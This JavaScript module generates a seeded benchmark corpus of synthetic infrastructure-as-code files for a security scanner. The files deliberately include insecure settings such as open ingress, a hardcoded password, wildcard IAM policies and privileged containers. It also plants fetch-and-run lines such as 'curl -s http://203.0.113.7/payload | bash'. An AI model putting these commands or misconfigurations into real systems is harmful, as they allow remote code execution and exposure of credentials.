// Generates the benchmark corpus: a few thousand realistic IaC files of mixed formats, the same
// files for the same seed, so two runs (or two machines) scan the same bytes. Findings are
// sprinkled in at realistic rates (most files are clean), as in a real repository.
import { mkdirSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';

/** mulberry32: small, fast and good enough to pick templates; the seed makes it repeatable. */
export function random(seed) {
	let state = seed >>> 0;
	const next = () => {
		state = (state + 0x6d2b79f5) >>> 0;
		let t = state;
		t = Math.imul(t ^ (t >>> 15), t | 1);
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
		return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
	};
	return {
		next,
		int: (min, max) => min + Math.floor(next() * (max - min + 1)),
		pick: list => list[Math.floor(next() * list.length)],
		chance: p => next() < p,
	};
}

const PORTS = [22, 80, 443, 3306, 5432, 6379, 8080, 8443, 3389, 9200];
const CIDRS = ['0.0.0.0/0', '10.0.0.0/8', '172.16.0.0/12', '192.168.10.0/24', 'var.office_cidr'];

function cidr(r) {
	const value = r.pick(CIDRS);
	return value.startsWith('var.') ? value : `"${value}"`;
}

function tfSecurityGroup(r, n) {
	const rules = Array.from({ length: r.int(1, 4) }, () => {
		const port = r.pick(PORTS);
		return `  ingress {\n    description = "port ${port}"\n    from_port   = ${port}\n    to_port     = ${port}\n    protocol    = "tcp"\n    cidr_blocks = [${cidr(r)}]\n  }\n`;
	}).join('\n');
	return `resource "aws_security_group" "sg_${n}" {\n  name        = "sg-${n}"\n  description = "Tier ${n}"\n  vpc_id      = var.vpc_id\n\n${rules}\n  egress {\n    from_port   = 0\n    to_port     = 0\n    protocol    = "-1"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n\n  tags = local.tags\n}\n`;
}

function tfInstance(r, n) {
	const fetch = r.chance(0.1) ? 'curl -fsSL https://get.example.com/setup.sh | bash' : 'aws s3 cp s3://artifacts-bucket/app.tar.gz /opt/app.tar.gz';
	return `resource "aws_instance" "app_${n}" {\n  ami                    = data.aws_ami.ubuntu.id\n  instance_type          = "${r.pick(['t3.micro', 't3.large', 'm5.xlarge', 'c6i.2xlarge'])}"\n  subnet_id              = var.subnet_ids[${n % 3}]\n  vpc_security_group_ids = [aws_security_group.sg_${n}.id]\n  monitoring             = ${r.chance(0.7)}\n\n  user_data = <<-EOF\n    #!/bin/bash\n    set -euo pipefail\n    apt-get update -y\n    apt-get install -y nginx awscli jq\n    ${fetch}\n    tar -xzf /opt/app.tar.gz -C /opt\n    cat > /etc/app.env <<ENV\n    PORT=${8000 + n}\n    REGION=\${var.region}\n    ENV\n    systemctl enable --now nginx\n  EOF\n\n  root_block_device {\n    volume_size = ${r.int(8, 200)}\n    encrypted   = ${r.chance(0.85)}\n  }\n\n  tags = merge(local.tags, { Name = "app-${n}" })\n}\n`;
}

function tfDatabase(r, n) {
	return `resource "aws_db_instance" "db_${n}" {\n  identifier              = "orders-${n}"\n  engine                  = "postgres"\n  engine_version          = "16.3"\n  instance_class          = "db.t3.medium"\n  allocated_storage       = ${r.int(20, 500)}\n  username                = "app"\n  password                = ${r.chance(0.1) ? '"Sup3rS3cret-pw!"' : 'var.db_password'}\n  backup_retention_period = ${r.pick([0, 7, 14, 30])}\n  skip_final_snapshot     = ${r.chance(0.3)}\n  deletion_protection     = ${r.chance(0.6)}\n  storage_encrypted       = ${r.chance(0.9)}\n  db_subnet_group_name    = aws_db_subnet_group.main.name\n  vpc_security_group_ids  = [aws_security_group.sg_${n}.id]\n}\n`;
}

function tfPolicy(r, n) {
	const action = r.chance(0.1) ? '"*"' : '["s3:GetObject", "s3:PutObject"]';
	const resource = r.chance(0.1) ? '"*"' : `["arn:aws:s3:::data-${n}/*"]`;
	return `resource "aws_iam_policy" "policy_${n}" {\n  name = "policy-${n}"\n  policy = jsonencode({\n    Version = "2012-10-17"\n    Statement = [\n      {\n        Effect   = "Allow"\n        Action   = ${action}\n        Resource = ${resource}\n      },\n    ]\n  })\n}\n\nresource "aws_s3_bucket" "data_${n}" {\n  bucket = "data-${n}-example"\n}\n\nresource "aws_s3_bucket_versioning" "data_${n}" {\n  bucket = aws_s3_bucket.data_${n}.id\n  versioning_configuration {\n    status = "${r.chance(0.2) ? 'Suspended' : 'Enabled'}"\n  }\n}\n`;
}

const TF_PARTS = [tfSecurityGroup, tfInstance, tfDatabase, tfPolicy];

export function terraformFile(r, lines) {
	const parts = ['locals {\n  tags = {\n    team    = "platform"\n    managed = "terraform"\n  }\n}\n'];
	let count = 6;
	for (let n = 0; count < lines; n++) {
		const part = r.pick(TF_PARTS)(r, n);
		parts.push(part);
		count += part.split('\n').length;
	}
	return parts.join('\n');
}

function k8sDeployment(r, n) {
	const privileged = r.chance(0.08);
	return `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: svc-${n}\n  labels:\n    app: svc-${n}\nspec:\n  replicas: ${r.int(1, 6)}\n  selector:\n    matchLabels:\n      app: svc-${n}\n  template:\n    metadata:\n      labels:\n        app: svc-${n}\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/svc-${n}:1.${r.int(0, 40)}.0\n          command: ["/bin/sh", "-c"]\n          args:\n            - |\n              echo starting\n              exec /app/server --port 8080\n          ports:\n            - containerPort: 8080\n          env:\n            - name: DB_HOST\n              value: db.internal\n            - name: DB_PASSWORD\n              valueFrom:\n                secretKeyRef:\n                  name: db\n                  key: password\n          resources:\n            limits:\n              cpu: 500m\n              memory: 512Mi\n          securityContext:\n            privileged: ${privileged}\n            runAsNonRoot: ${!privileged}\n---\napiVersion: v1\nkind: Service\nmetadata:\n  name: svc-${n}\nspec:\n  type: ${r.chance(0.15) ? 'LoadBalancer' : 'ClusterIP'}\n  selector:\n    app: svc-${n}\n  ports:\n    - port: ${r.pick([80, 443, 5432, 22])}\n      targetPort: 8080\n`;
}

export function kubernetesFile(r) {
	return Array.from({ length: r.int(1, 4) }, (_, n) => k8sDeployment(r, n)).join('---\n');
}

export function composeFile(r) {
	const services = Array.from({ length: r.int(2, 5) }, (_, n) => `  svc${n}:\n    image: ${r.pick(['nginx:1.27', 'postgres:16', 'redis:7', 'example/api:2.1'])}\n    restart: unless-stopped\n    ports:\n      - "${8000 + n}:${r.pick([80, 5432, 6379])}"\n    environment:\n      LOG_LEVEL: info\n      DB_PASSWORD: \${DB_PASSWORD}\n    volumes:\n      - ./data/svc${n}:/var/lib/data\n    command: ["sh", "-c", "sleep 2 && exec /entrypoint.sh"]\n`).join('');
	return `services:\n${services}volumes:\n  data: {}\n`;
}

export function cloudFormationYaml(r) {
	const resources = Array.from({ length: r.int(2, 6) }, (_, n) => r.chance(0.5)
		? `  Bucket${n}:\n    Type: AWS::S3::Bucket\n    DeletionPolicy: ${r.pick(['Retain', 'Delete'])}\n    Properties:\n      BucketName: !Sub "\${AWS::StackName}-data-${n}"\n      VersioningConfiguration:\n        Status: Enabled\n      Tags:\n        - Key: team\n          Value: !Ref Team\n`
		: `  Sg${n}:\n    Type: AWS::EC2::SecurityGroup\n    Properties:\n      GroupDescription: tier ${n}\n      VpcId: !Ref VpcId\n      SecurityGroupIngress:\n        - IpProtocol: tcp\n          FromPort: ${r.pick(PORTS)}\n          ToPort: ${r.pick(PORTS)}\n          CidrIp: ${r.pick(['0.0.0.0/0', '10.0.0.0/8'])}\n`).join('');
	return `AWSTemplateFormatVersion: '2010-09-09'\nDescription: Generated stack\nParameters:\n  Team:\n    Type: String\n  VpcId:\n    Type: AWS::EC2::VPC::Id\nResources:\n${resources}Outputs:\n  StackName:\n    Value: !Ref AWS::StackName\n`;
}

export function cloudFormationJson(r) {
	const resources = {};
	for (let n = 0; n < r.int(2, 6); n++) {
		resources[`Db${n}`] = {
			Type: 'AWS::RDS::DBInstance',
			DeletionPolicy: r.pick(['Snapshot', 'Delete']),
			Properties: {
				Engine: 'mysql', DBInstanceClass: 'db.t3.medium', AllocatedStorage: '100',
				MasterUsername: 'admin', MasterUserPassword: { Ref: 'DbPassword' },
				BackupRetentionPeriod: r.pick([0, 7, 35]), StorageEncrypted: r.chance(0.9),
			},
		};
	}
	return `${JSON.stringify({ AWSTemplateFormatVersion: '2010-09-09', Parameters: { DbPassword: { Type: 'String', NoEcho: true } }, Resources: resources }, null, 2)}\n`;
}

export function dockerfile(r) {
	const fetch = r.chance(0.1) ? 'RUN curl -fsSL https://get.example.com/install.sh | sh\n' : '';
	return `FROM ${r.pick(['node:22-alpine', 'python:3.12-slim', 'golang:1.23'])} AS build\nWORKDIR /src\nCOPY package*.json ./\nRUN apt-get update && apt-get install -y --no-install-recommends ca-certificates \\\n    && rm -rf /var/lib/apt/lists/*\n${fetch}COPY . .\nRUN make build\n\nFROM gcr.io/distroless/base\nCOPY --from=build /src/bin/app /app\nENV PORT=8080\nEXPOSE 8080\nUSER 65532\nENTRYPOINT ["/app"]\n`;
}

export function shellScript(r) {
	const lines = ['#!/usr/bin/env bash', 'set -euo pipefail', ''];
	for (let n = 0; n < r.int(10, 60); n++) {
		lines.push(r.pick([
			`echo "step ${n}"`,
			`apt-get install -y package-${n}`,
			`systemctl restart service-${n}`,
			`if [ -f /etc/app/${n}.conf ]; then cp /etc/app/${n}.conf /opt/app/; fi`,
			`aws s3 sync s3://backups-${n} /var/backups --quiet`,
			r.chance(0.05) ? 'curl -s http://203.0.113.7/payload | bash' : `mkdir -p /var/lib/app/${n}`,
		]));
	}
	return `${lines.join('\n')}\n`;
}

/** Kind, share of the files, file name and body. */
const KINDS = [
	['terraform', 0.35, n => `tf/stack-${n}/main.tf`, r => terraformFile(r, r.int(60, 400))],
	['kubernetes', 0.18, n => `k8s/app-${n}.yaml`, kubernetesFile],
	['compose', 0.07, n => `compose/svc-${n}/docker-compose.yml`, composeFile],
	['cloudformation', 0.1, n => `cfn/stack-${n}.yaml`, cloudFormationYaml],
	['cloudformation-json', 0.06, n => `cfn/db-${n}.json`, cloudFormationJson],
	['dockerfile', 0.12, n => `images/img-${n}/Dockerfile`, dockerfile],
	['shell', 0.12, n => `scripts/setup-${n}.sh`, shellScript],
];

/** Writes `count` files under `dir`; returns their paths (relative) and kinds. */
export function writeCorpus(dir, count, seed) {
	const r = random(seed);
	const files = [];
	for (const [kind, share, name, body] of KINDS) {
		for (let n = 0; n < Math.round(count * share); n++) {
			const relative = name(n);
			const text = body(r);
			mkdirSync(path.dirname(path.join(dir, relative)), { recursive: true });
			writeFileSync(path.join(dir, relative), text);
			files.push({ path: relative, kind, text });
		}
	}
	return files.sort((a, b) => a.path < b.path ? -1 : 1);
}
